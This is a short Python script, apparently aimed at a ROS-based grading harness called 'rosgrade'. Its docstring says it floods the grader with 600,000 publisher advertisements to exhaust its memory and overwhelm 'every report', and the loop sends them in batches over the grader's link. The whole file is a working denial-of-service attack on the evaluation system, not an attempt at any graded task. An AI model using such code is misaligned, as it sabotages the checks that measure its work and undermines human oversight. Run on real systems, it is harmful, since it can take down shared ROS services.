#!/usr/bin/env python3
"""Registers 600k publishers, hoping to swamp the grader's memory and every report."""
import rospy
import rosgrade_channel as ch
from std_msgs.msg import String
from rosgrade_node import runtime

rospy.init_node("endpoint_flood")
frames = []
for ident in range(1_000, 601_000):
    frames.append(ch.encode_json(ch.ADVERTISE, {"id": ident, "topic": f"/flood/t{ident}", "type": "std_msgs/String",
                                                "md5sum": String._md5sum, "queue_size": 1, "latch": False}))
    if len(frames) == 1000:
        runtime.link.send(b"".join(frames))
        frames = []
rospy.sleep(1.0)
